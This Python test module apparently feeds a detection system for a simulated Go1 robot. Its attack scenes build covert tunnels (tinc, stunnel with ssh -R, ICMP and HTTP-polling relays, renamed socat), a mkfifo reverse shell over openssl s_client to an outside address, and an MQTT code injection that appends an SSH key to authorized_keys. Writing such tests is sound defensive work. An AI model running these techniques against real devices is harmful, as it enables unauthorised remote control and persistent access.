"""Attacks by somebody who knew detection.md and the robot, and had seen no rule and no line of the judge."""

import contextlib
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

from tests.robots.attacks.acting import (
    WEB_INSIDE,
    door_to,
    drives,
    implant,
    linger,
    logs_in_and_works,
    looks,
    on_internet,
    outside_broker,
    outside_program,
    outside_sshd,
    put,
    run,
    self_signed,
    ssh_from_pi,
    start,
)
from tests.robots.attacks.draw import Draw
from tests.robots.attacks.networks import reaches
from tests.robots.attacks.scene import Scene, Story
from tests.robots.go1 import Go1, visits
from tests.robots.go1.addresses import CAMERA_PORT, CAMERAS, HIGH_LEVEL, MQTT, OPERATOR, PI_LAN, PI_PPP
from tests.robots.go1.namespace import Namespace

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZvciB0ZXN0cyBvbmx5LCBvcGVucyBub3RoaW5nIQ=="


def _copied(robot: Go1, path: str, program: str) -> str:
    """A program of the robot under another name and elsewhere."""
    found = shutil.which(program)
    assert found is not None, program
    put(robot, path, Path(found).read_bytes(), 0o755)
    return path


def _tinc(robot: Go1, draw: Draw) -> None:
    """The robot's tincd offers its owner's whole network; somebody asks a Nano for pictures across it."""
    address, port = on_internet(robot, draw.address("outside")), draw.high_port("outside")
    net, name = f"10.{draw.number('net', 20, 98)}.{draw.number('subnet', 1, 250)}", draw.name("network")
    away, here = robot.log.parent / "outside" / "tinc", Path(f"/etc/tinc/{name}")
    mine, theirs = draw.name("mine"), draw.name("theirs")
    hosts = {
        theirs: f"Address = {address}\nPort = {port}\nSubnet = {net}.1/32\n",
        mine: f"Subnet = {net}.2/32\nSubnet = 192.168.123.0/24\n",
    }
    up = "#!/bin/sh\nip link set $INTERFACE up\nip addr add {} dev $INTERFACE\n{}\n"

    def lay(write: Callable[[str, str, int], None], own: str, device: str, more: str, script: str) -> None:
        write("tinc.conf", f"Name = {own}\nInterface = {device}\nDeviceType = tun\n{more}", 0o644)
        write("tinc-up", script, 0o755)
        for host, text in hosts.items():
            write(f"hosts/{host}", text, 0o644)

    def outside(name: str, text: str, mode: int) -> None:
        (away / name).parent.mkdir(parents=True, exist_ok=True)
        (away / name).write_text(text)
        (away / name).chmod(mode)

    lay(outside, theirs, "tinc0", f"BindToAddress = {address} {port}\n",
        up.format(f"{net}.1/24", "ip route add 192.168.123.0/24 dev $INTERFACE"))  # fmt: skip
    lay(lambda name, text, mode: put(robot, f"{here}/{name}", text, mode), mine, draw.name("device")[:8],
        f"ConnectTo = {theirs}\n", up.format(f"{net}.2/24", ""))  # fmt: skip
    robot.internet.run(["tincd", "-c", away, "-K1024"], stdin=subprocess.DEVNULL)
    run(robot, ["tincd", "-c", str(here), "-K1024"], stdin=subprocess.DEVNULL)
    # Each has the other's public key, which is at the end of the file of its host.
    (away / "hosts" / mine).write_text((robot.pi.root / f"{here}/hosts/{mine}".lstrip("/")).read_text())
    put(robot, f"{here}/hosts/{theirs}", (away / "hosts" / theirs).read_text())
    robot.internet.popen(["tincd", "-D", "-c", away, f"--pidfile={away}/pid"])
    robot.internet.wait_for(port)
    start(robot, ["tincd", "-D", "-n", name, f"--pidfile=/run/{name}.pid"])
    reaches(robot, f"{net}.2")
    looks(robot, robot.internet, CAMERAS[draw.pick("camera", sorted(CAMERAS))], CAMERA_PORT, "/")


def _desktop_calls(robot: Go1, draw: Draw) -> None:
    """The desktop itself dials out to a viewer who waits; nothing knocks at the robot, and no other program relays."""
    address, port = on_internet(robot, draw.address("outside")), draw.pick("port", [5500, 443, draw.port("port")])
    display = f":{draw.number('display', 10, 60)}"
    robot.pi.run(["sh", "-ec", "for place in /tmp /var/lib/xkb; do mount -t tmpfs tmpfs $place; done"])
    rfb = draw.high_port("rfb")
    start(robot, ["Xvnc", display, "-SecurityTypes", "None", "-localhost", "-rfbport", str(rfb)])
    robot.pi.wait_for(rfb)
    with outside_program(robot, "rfb_viewer", address, str(port), "called") as viewer:
        run(robot, ["vncconfig", "-display", display, "-connect", f"{address}:{port}"])
        linger(7)
        assert viewer.process.poll() is None, "the desktop did not call"


def _own_bridge(robot: Go1, draw: Draw) -> None:
    """A second mosquitto on the robot, bridged to a broker outside and to the robot's: orders come in by it."""
    address, port = on_internet(robot, draw.address("outside")), draw.pick("port", [1883, 2883, draw.port("port")])
    outside_broker(robot, address, port)
    topic, inside = draw.name("topic"), draw.high_port("inside")
    bridges = draw.order("bridges", [
        f"connection {draw.name('far')}\naddress {address}:{port}\ntopic # in 1 controller/ {topic}/\n",
        f"connection {draw.name('near')}\naddress 127.0.0.1:{MQTT}\ntopic controller/# out 1\n",
    ])  # fmt: skip
    config = f"/etc/mosquitto/{draw.name('config')}.conf"
    put(robot, config, f"listener {inside} 127.0.0.1\nallow_anonymous true\n" + "".join(bridges))
    start(robot, ["mosquitto", "-c", config])
    robot.pi.wait_for(inside)
    linger(2)
    drives(robot, robot.internet, address, port, f"{topic}/action")


def _polls(robot: Go1, draw: Draw) -> None:
    """No line stands: each piece goes by a short connection to a web server of the attacker."""
    address, port, door = on_internet(robot, draw.address("outside")), draw.port("outside"), draw.high_port("door")
    with outside_program(robot, "polling_far_end", address, str(port), str(door)):
        pause = str(draw.number("pause", 100, 400))
        relay = implant(robot, draw.path("relay"), "polling_relay.py", [address, str(port), "127.0.0.1", "22", pause])
        linger(2)
        logs_in_and_works(robot, draw, (address, door))
        relay.kill()
        relay.wait(10)


def _echoes(robot: Go1, draw: Draw) -> None:
    """Everything goes within pings; whether the kernel knows with whom the program speaks is drawn."""
    address, door = on_internet(robot, draw.address("outside")), draw.high_port("door")
    robot.internet.run(["sh", "-c", "echo 1 > /proc/sys/net/ipv4/icmp_echo_ignore_all"])
    with outside_program(robot, "echo_far_end", address, str(door)):
        more = draw.pick("connected", [["connected"], []])
        relay = implant(robot, draw.path("relay"), "echo_relay.py", [address, "127.0.0.1", "22", *more])
        logs_in_and_works(robot, draw, (address, door))
        relay.kill()
        relay.wait(10)


def _openssl_shell(robot: Go1, draw: Draw) -> None:
    """The shell has pipes and no socket; openssl's own client, which everybody has, carries them out over TLS."""
    address, port, pipe = on_internet(robot, draw.address("outside")), draw.port("outside"), f"/run/{draw.name('pipe')}"
    pair = self_signed(robot)
    server = ["openssl", "s_server", "-quiet", "-cert", pair, "-accept", f"{address}:{port}"]
    handler = robot.internet.popen(server, stdin=subprocess.PIPE)
    robot.internet.wait_for(port)
    shell = draw.pick("shell", ["/bin/sh -i", "/bin/bash -i", "/bin/dash"])
    line = f"mkfifo {pipe}; {shell} < {pipe} 2>&1 | openssl s_client -quiet -connect {address}:{port} > {pipe}"
    victim = start(robot, ["sh", "-c", line])
    linger(1)
    assert handler.stdin is not None
    for typed in draw.order("typed", ["id", "uname -a", "ls -la /home/pi", "ip addr", "cat /etc/hostname", "ps aux"]):
        handler.stdin.write(typed.encode() + b"\n")
        handler.stdin.flush()
        linger(0.5)
    linger(1)
    handler.kill()
    with contextlib.suppress(subprocess.TimeoutExpired):
        victim.wait(3)


def _nested(robot: Go1, draw: Draw) -> None:
    """ssh -R within stunnel opens two doors; somebody logs in by one and drives by the other, in either order."""
    address, port, sshd = on_internet(robot, draw.address("outside")), draw.port("outside"), draw.high_port("sshd")
    shell, broker, local = draw.high_port("shell"), draw.high_port("broker"), draw.high_port("local")
    outside_sshd(robot, address, sshd)
    pair, config = self_signed(robot), robot.log.parent / "outside" / "stunnel.conf"
    config.write_text(
        f"foreground = yes\npid =\n[x]\naccept = {address}:{port}\nconnect = {address}:{sshd}\ncert = {pair}\n"
    )
    robot.internet.popen(["stunnel", config])
    robot.internet.wait_for(port)
    mine = f"/etc/stunnel/{draw.name('config')}.conf"
    ends = f"client = yes\naccept = 127.0.0.1:{local}\nconnect = {address}:{port}\n"
    put(robot, mine, f"foreground = yes\npid =\n[{draw.name('section')}]\n{ends}")
    start(robot, ["stunnel", mine])
    robot.pi.wait_for(local)
    doors = ["-R", f"{address}:{shell}:127.0.0.1:22", "-R", f"{address}:{broker}:127.0.0.1:{MQTT}"]
    start(robot, ssh_from_pi(robot, draw, "-N", *doors, "-p", str(local), "root@127.0.0.1"))
    robot.internet.wait_for(shell)
    robot.internet.wait_for(broker)
    for what in draw.order("acts", ["works", "drives"]):
        if what == "works":
            logs_in_and_works(robot, draw, (address, shell))
        else:
            drives(robot, robot.internet, address, broker)


def _page_drives(robot: Go1, draw: Draw) -> None:
    """The app's own way in, from afar: a relay to the page, whose nginx leads on to the broker."""
    transport = draw.pick("transport", ["tcp", "tls", "udp"])
    with (
        door_to(robot, draw, WEB_INSIDE, transport) as (address, door),
        visits.visitor(robot.internet, "phone", address, str(door)),
    ):
        linger(7)


def _renamed_udp(robot: Go1, draw: Draw) -> None:
    """socat under a name that nobody knows takes commands from the internet and hands them to the legs' program."""
    port, path = draw.high_port("door"), _copied(robot, draw.path("relay"), "socat")
    inner = draw.pick("inner", ["127.0.0.1", PI_LAN])
    start(robot, [path, f"UDP4-LISTEN:{port},bind={PI_PPP},fork", f"UDP4:{inner}:{HIGH_LEVEL}"])
    robot.pi.wait_for(port, "udp")
    own = draw.pick("own", [8080, 8090, draw.high_port("own")])
    with visits.visitor(robot.internet, "sdk", str(own), PI_PPP, str(port), "50"):
        linger(7)


def _halves(robot: Go1, draw: Draw) -> None:
    """Two programs that nothing but a name in the file system joins: one has the way out, the other the way in."""
    address, port, door = on_internet(robot, draw.address("outside")), draw.port("outside"), draw.high_port("door")
    listen = "TCP-LISTEN:{},bind={},reuseaddr"
    robot.internet.popen(["socat", listen.format(port, address), listen.format(door, address)])
    robot.internet.wait_for(port)
    meeting = f"/run/{draw.name('meeting')}"
    inner, outer = (_copied(robot, draw.path(half), "socat") for half in ("inner", "outer"))
    start(robot, [inner, f"UNIX-LISTEN:{meeting},fork", "TCP:127.0.0.1:22"])
    linger(0.5)
    start(robot, [outer, f"TCP:{address}:{port}", f"UNIX-CONNECT:{meeting}"])
    robot.internet.wait_for(door)
    logs_in_and_works(robot, draw, (address, door))


def _publish(where: Namespace, topic: str, payload: str) -> None:
    where.run(["mosquitto_pub", "-h", PI_PPP, "-p", str(MQTT), "-q", "1", "-t", topic, "-m", payload])


def _code_then_login(robot: Go1, draw: Draw) -> None:
    """Python sent to the open broker leaves a key; by ssh, the one who sent it then comes in person."""
    line = f"{_KEY} {draw.name('key')}"
    code = f"with open('/home/pi/.ssh/authorized_keys', 'a') as keys:\n    keys.write({line!r} + chr(10))\n"
    _publish(robot.internet, "programming/code", code)
    _publish(robot.internet, "programming/action", "start")
    linger(draw.number("wait", 2, 5))
    logs_in_and_works(robot, draw, (PI_PPP, 22))


def _control(surfaces: tuple[str, ...], origin: tuple[str, ...], title: tuple[str, ...], *attack: str) -> Story:
    return Story("remote-control", "high", surfaces, origin, ("remote control", *title), attack)


_OUT, _RELAY = "{address[outside]}", "{path[relay]}"
SCENES = (
    Scene("tinc-camera", 3, "a tinc network nobody authorised leads to the Nanos; somebody looks through a camera "
          "across it", _tinc,
          Story("remote-viewing", "high", ("camera",), (_OUT,), ("camera", "tinc"), ("T1572", "T1125"))),
    Scene("desktop-calls-out", 4, "a shared desktop dials out to a viewer on the internet, who uses it", _desktop_calls,
          _control(("desktop",), (_OUT, "desktop"), ("desktop",), "T1021.005")),
    Scene("broker-own-bridge", 4, "a second broker on the robot brings orders from one outside to the robot's",
          _own_bridge, _control(("mqtt",), (_OUT, "mqtt"), ("mqtt",), "T1572")),
    Scene("relay-polling-ssh", 1, "an unnamed relay asks a web server again and again, by a new connection each time; "
          "somebody logs in through it", _polls,
          _control(("ssh",), (_OUT, _RELAY, "ssh", "pi"), ("ssh",), "T1572", "T1021.004")),
    Scene("relay-echo-ssh", 1, "an unnamed relay within pings; somebody logs in through it", _echoes,
          _control(("ssh",), (_OUT, _RELAY, "ssh", "pi"), ("ssh",), "T1572", "T1021.004")),
    Scene("shell-openssl", 2, "a shell between two pipes, which openssl carries out over TLS; somebody types",
          _openssl_shell, _control(("shell",), (_OUT,), ("shell",), "T1059")),
    Scene("stunnel-nested", 1, "ssh -R within stunnel; somebody logs in and drives through it", _nested,
          _control(("ssh", "mqtt"), (_OUT, "/usr/bin/stunnel4", "ssh", "pi"), (), "T1572", "T1021.004")),
    Scene("relay-page-drives", 4, "the phone's app, far away, drives by the page through an unnamed relay",
          _page_drives, _control(("mqtt",), (_OUT, _RELAY, "mqtt"), ("mqtt",), "T1572")),
    Scene("renamed-udp", 4, "a renamed socat hands commands from the internet to the legs' program by UDP",
          _renamed_udp,
          # At first also "udp" as the service's name: detection.md fixes the word of the surface, not the service's.
          _control(("udp",), (OPERATOR, _RELAY), ("udp",), "T1572")),
    Scene("two-halves-ssh", 1, "a relay of two unrelated programs that meet at a unix socket; somebody logs in",
          _halves, _control(("ssh",), (_OUT, "{path[outer]}", "{path[inner]}", "ssh", "pi"), ("ssh",),
                            "T1572", "T1021.004")),
    Scene("code-then-login", 5, "Python sent from the internet leaves a key of ssh; then its sender logs in",
          _code_then_login, _control(("mqtt", "ssh"), (OPERATOR, "ssh", "pi"), (), "T1133", "T1098.004")),
)  # fmt: skip
